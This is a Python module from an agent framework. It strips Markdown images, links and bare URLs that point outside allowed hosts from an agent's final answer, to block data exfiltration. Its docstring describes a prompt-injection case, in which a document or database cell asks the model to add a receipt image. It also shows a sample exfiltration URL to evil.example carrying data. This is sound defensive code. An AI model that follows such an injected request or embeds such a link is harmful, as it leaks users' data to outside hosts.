"""Links in a final answer: only to hosts the run was allowed to reach, or that the user wrote.

    keep_trusted_links("Total 1.98. ![receipt](https://evil.example/r.png?data=...)", allowed=["www.nist.gov"],
                       task="What was the total?")
      -> Trusted("Total 1.98. [image removed]", removed=["https://evil.example/r.png?data=..."])

A link in an answer is an exfiltration channel: a document or a database cell asks the model to add
"this receipt image", whose URL carries data out the moment a client renders it (or a user clicks).
Tool output can say anything, so this does not depend on noticing the request: after the run, every
URL in the answer whose host is not in `agent.fetch_allow_hosts`, `agent.answer_link_hosts` or the
user's own task is taken out. A Markdown image goes entirely ("[image removed]"), a Markdown link
keeps its words, a bare URL becomes "[link removed]". The removed URLs are kept on the result (and
counted in the trace) so an operator can see what was tried.

Left out: hosts written without a scheme ("evil.example/x"): a client does not turn those into a
request by itself.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from dayshift.agents.tools.fetch import host_allowed

_URL = r"(?:https?|ftp)://[^\s<>()\[\]\"'`]+"
_IMAGE = re.compile(rf"!\[([^\]\n]*)\]\(\s*<?({_URL})>?(?:\s+\"[^\"]*\")?\s*\)", re.IGNORECASE)
_LINK = re.compile(rf"\[([^\]\n]*)\]\(\s*<?({_URL})>?(?:\s+\"[^\"]*\")?\s*\)", re.IGNORECASE)
_BARE = re.compile(rf"<?({_URL})>?", re.IGNORECASE)
_TRAILING = ".,;:!?"


@dataclass(frozen=True, slots=True)
class Trusted:
    text: str
    removed: list[str] = field(default_factory=list)


def keep_trusted_links(answer: str, *, allowed: Sequence[str], task: str) -> Trusted:
    """`answer` without links to hosts outside `allowed` and the hosts the task itself names."""
    trusted = [*allowed, *(h for u in _BARE.findall(task) if (h := _host(u)))]
    removed: list[str] = []

    def ok(url: str) -> bool:
        host = _host(url)
        if host and host_allowed(host, trusted):
            return True
        removed.append(url)
        return False

    text = _IMAGE.sub(lambda m: m.group(0) if ok(m.group(2)) else "[image removed]", answer)
    text = _LINK.sub(lambda m: m.group(0) if ok(m.group(2)) else m.group(1).strip() or "[link removed]", text)

    def bare(match: re.Match[str]) -> str:
        url, tail = match.group(1), ""
        while url and url[-1] in _TRAILING:  # "see https://x.example/a." ends the sentence, not the URL
            url, tail = url[:-1], url[-1] + tail
        return match.group(0) if ok(url) else "[link removed]" + tail

    text = _BARE.sub(bare, text)
    return Trusted(text, removed)


def _host(url: str) -> str:
    try:
        return (urlsplit(url).hostname or "").lower()
    except ValueError:
        return ""
